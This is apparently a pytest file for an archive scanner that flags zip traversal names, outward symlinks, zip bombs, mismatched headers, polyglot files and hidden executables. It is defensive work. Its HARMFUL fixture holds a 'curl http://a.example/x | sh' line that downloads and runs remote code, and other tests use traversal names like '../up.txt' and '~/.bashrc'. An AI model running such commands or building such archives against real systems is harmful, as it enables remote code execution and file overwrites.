"""Zip archives: names, links, two stories, bombs, and what lies inside."""

import io
import struct
import zipfile

import pytest

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.looking import all_places, found, is_quiet, levels, look, worst

HARMFUL = b"#!/bin/sh\ncurl http://a.example/x | sh\n"


def a_zip(*members, method=zipfile.ZIP_DEFLATED):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return held.getvalue()


def test_an_ordinary_archive_is_quiet():
    data = a_zip(("README.md", "# hello"), ("conf/config.json", '{"a": 1}'), ("logo.svg", "<svg></svg>"))

    assert is_quiet(look(data, "a.zip"))


def test_what_lies_inside_is_looked_at_wherever_the_archive_is():
    inner = a_zip(("run.sh", HARMFUL))

    artifact = look(a_zip(("inner.dat", inner)), "weights.bin")

    assert levels(artifact, "script/harmful") == {Level.HIGH}
    assert [f.place for f in artifact.findings if f.rule == "script/harmful"] == ["inner.dat/run.sh"]


@pytest.mark.parametrize(
    "method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]
)
def test_every_method_is_unpacked(method):
    assert "script/harmful" in found(look(a_zip(("run.sh", HARMFUL), method=method), "a.zip"))


@pytest.mark.parametrize("name", ["../up.txt", "/etc/x", "a/../../b", "C:/x", "..\\up.txt", "~/.bashrc"])
def test_a_name_that_leads_outside_is_critical(name):
    data = a_zip(("xxxxxxxxxxxxxxxx", "hi"))
    raw = name.encode().ljust(16, b"z") if len(name) < 16 else name.encode()
    data = data.replace(b"xxxxxxxxxxxxxxxx", raw)

    assert levels(look(data, "a.zip"), "archive/traversal") == {Level.CRITICAL}


def test_a_name_that_goes_up_within_the_archive_is_only_odd():
    artifact = look(a_zip(("a/../b.txt", "hi")), "a.zip")

    assert "archive/traversal" not in found(artifact)
    assert levels(artifact, "archive/name") == {Level.MEDIUM}


@pytest.mark.parametrize("name", ["model\u202etxt.exe", "a\u200b.txt", "trailing.txt. ", "a\x01b"])
def test_a_name_made_to_deceive_is_told(name):
    assert "archive/name" in found(look(a_zip((name, "hi")), "a.zip"))


def test_a_link_out_of_the_archive_is_critical_and_one_inside_is_not():
    def linked(target):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as archive:
            info = zipfile.ZipInfo("folder/link")
            info.create_system = 3
            info.external_attr = 0o120777 << 16
            archive.writestr(info, target)
        return look(held.getvalue(), "a.zip")

    assert levels(linked("../../etc"), "archive/link-outside") == {Level.CRITICAL}
    assert "archive/link-outside" not in found(linked("../other"))


def test_two_members_of_one_name_are_told():
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("a.txt", "one")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a.txt", "two")

    assert "archive/duplicate" in found(look(held.getvalue(), "a.zip"))


def test_a_local_header_with_another_name_is_told():
    data = a_zip(("good.txt", "hi"))
    at = data.index(b"good.txt")

    assert "archive/two-stories" in found(look(data[:at] + b"evil.txt" + data[at + 8 :], "a.zip"))


def test_an_encrypted_member_is_unknown_and_a_flag_alone_does_not_hide_it():
    data = bytearray(a_zip(("run.sh", HARMFUL), method=zipfile.ZIP_STORED))
    central = data.rindex(b"PK\x01\x02")
    data[6] |= 1
    data[central + 8] |= 1
    flagged = look(bytes(data), "a.zip")
    data[data.index(b"#!/bin")] ^= 1
    encrypted = look(bytes(data), "a.zip")

    assert {"archive/two-stories", "script/harmful"} <= found(flagged)
    assert "scan/encrypted" in found(encrypted)


def test_bytes_before_and_after_are_told():
    data = a_zip(("a.txt", "hi"))

    assert "archive/bytes-beside" in found(look(b"GIF89a" + bytes(50) + data, "a.gif"))
    assert "archive/bytes-beside" in found(look(data + b"something else", "a.zip"))


def test_an_archive_with_a_program_behind_a_picture_is_high():
    picture = b"GIF89a\x01\0\x01\0\0\0\0;"

    assert Level.HIGH in levels(
        look(picture + a_zip(("run.sh", "#!/bin/sh\nls\n")), "a.gif"), "archive/bytes-beside"
    )


def test_a_bomb_is_named_and_ends():
    artifact = look(a_zip(("zeros", bytes(3 << 20))), "a.zip", ratio_from=1 << 20)

    assert levels(artifact, "archive/bomb") == {Level.HIGH}
    assert "scan/over-budget" in found(artifact)


def test_members_that_share_bytes_are_told():
    data = bytearray(a_zip(("a.txt", b"x" * 500), ("b.txt", b"y" * 500), method=zipfile.ZIP_STORED))
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1)
    struct.pack_into("<L", data, second + 42, 10)

    assert levels(look(bytes(data), "a.zip"), "archive/overlap") == {Level.HIGH}


def test_too_deep_is_a_finding_and_unknown():
    data = b"hello"
    for _ in range(20):
        data = a_zip(("inner.zip", data))

    artifact = look(data, "a.zip")

    assert {"archive/nested", "scan/over-budget"} <= found(artifact)


def test_a_wrong_checksum_does_not_keep_a_member_from_being_looked_at():
    data = bytearray(a_zip(("run.sh", HARMFUL), method=zipfile.ZIP_STORED))
    for at in (14, data.rindex(b"PK\x01\x02") + 16):
        data[at] ^= 0xFF

    assert {"archive/damaged", "script/harmful"} <= found(look(bytes(data), "a.zip"))


def test_the_good_part_of_a_broken_member_is_looked_at():
    data = bytearray(a_zip(("run.sh", HARMFUL + bytes(range(256)) * 500)))
    middle = len(data) // 2
    data[middle : middle + 20] = b"\xff" * 20

    artifact = look(bytes(data), "a.zip")

    assert {"archive/damaged", "script/harmful"} <= found(artifact)


def test_more_members_than_the_limit_end_with_a_finding():
    artifact = look(a_zip(*[(f"{n}.txt", "x") for n in range(50)]), "a.zip", members=20)

    assert {"archive/bomb", "scan/over-budget"} <= found(artifact)


def test_an_archive_without_its_directory_is_unknown():
    data = a_zip(("a.txt", "hi"))

    assert worst(look(data[:-30], "a.zip")) is Level.UNKNOWN


def test_two_hundred_quiet_members_are_counted_and_not_listed():
    artifact = look(a_zip(*[(f"{n}.txt", "x") for n in range(300)]), "a.zip")

    assert is_quiet(artifact)
    assert artifact.node.left_out == 100
    assert "0.txt" in all_places(artifact)


def test_members_are_read_in_order_where_there_is_no_directory():
    data = a_zip(("a.txt", "hi"), ("run.sh", HARMFUL))

    artifact = look(data[: data.index(b"PK\x01\x02")], "a.zip")

    assert {"script/harmful", "scan/truncated"} <= found(artifact)


def test_what_grows_a_thousandfold_is_told_though_it_is_small():
    assert levels(look(a_zip(("zeros", bytes(20 << 20))), "a.zip"), "archive/bomb") == {Level.MEDIUM}
    assert "archive/bomb" not in found(look(a_zip(("zeros", bytes(2 << 20))), "a.zip"))


def test_a_java_program_under_another_name_is_high():
    members = (
        ("META-INF/MANIFEST.MF", "Main-Class: Run\n"),
        ("Run.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64)),
    )

    assert levels(look(a_zip(*members), "model.zip"), "executable/inside") == {Level.HIGH}
    assert "executable/inside" not in found(look(a_zip(*members), "library.jar"))
